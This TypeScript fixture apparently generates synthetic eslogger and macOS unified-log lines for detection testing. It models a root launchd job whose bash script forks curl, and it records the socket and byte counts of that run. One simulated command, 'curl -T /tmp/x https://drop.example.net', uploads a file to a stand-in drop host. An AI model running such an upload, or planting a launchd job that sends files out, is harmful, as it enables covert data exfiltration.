/** One run of a job of launchd that uploads by curl, as eslogger and the unified log tell it. */
import { esloggerLine } from './eslogger-lines.ts'
import { spawnLine, tcpLine } from './log-lines.ts'

export interface LaunchdRun {
  readonly label: string
  readonly script: string
  readonly startMs: number
  /** Of the script; curl has the next. */
  readonly pid: number
  /** The kernel's number of the socket. */
  readonly socket: number
  readonly localPort: number
  readonly sentBytes: number
  /** In clear, as after `sysctl net.inet.tcp.log.privacy=0`; else the kernel hides both ends. */
  readonly destinationIp?: string
}

const local = (ms: number): string =>
  new Date(ms).toISOString().replace('T', ' ').replace('Z', '000+0000')
const nanoseconds = (ms: number): string => new Date(ms).toISOString().replace('Z', '000000Z')

/** What eslogger prints: launchd, its step, the script, and curl below it. */
export function runLines({ label, script, startMs, pid }: LaunchdRun): string[] {
  const startTime = nanoseconds(startMs)
  const shell = { pid, ppid: 1, uid: 0, startTime }
  const child = { pid: pid + 1, ppid: pid, uid: 0, startTime: nanoseconds(startMs + 20) }
  const step = (type: string, ms: number, subject: object, path: string, args?: string[]) =>
    esloggerLine({
      ...{ type, version: 10, time: nanoseconds(startMs + ms) },
      subject: { ...(subject as typeof shell), path },
      ...(args && { args }),
    })
  return [
    step('fork', 0, shell, '/sbin/launchd'),
    step('exec', 1, shell, '/usr/libexec/xpcproxy', ['xpcproxy', label]),
    step('exec', 9, shell, '/bin/bash', ['/bin/bash', script]),
    step('fork', 20, child, '/bin/bash'),
    step('exec', 22, child, '/usr/bin/curl', ['curl', '-T', '/tmp/x', 'https://drop.example.net']),
  ]
}

/** What the log tells: launchd's start, and curl's socket. */
export function runLog(run: LaunchdRun): string[] {
  const { startMs, pid, localPort, destinationIp } = run
  const [here, there] =
    destinationIp === undefined
      ? ['<IPv4-redacted>', '<IPv4-redacted>']
      : ['10.0.0.5', destinationIp]
  const socket = {
    ...{ socket: run.socket, process: `curl:${pid + 1}` },
    ends: `${here}:${localPort}<->${there}:443`,
  }
  return [
    spawnLine(run.label, pid, { time: local(startMs + 8) }),
    tcpLine('outgoing', { ...socket, time: local(startMs + 40) }),
    tcpLine('summary', { ...socket, time: local(startMs + 9_000), bytes: `300/${run.sentBytes}` }),
  ]
}
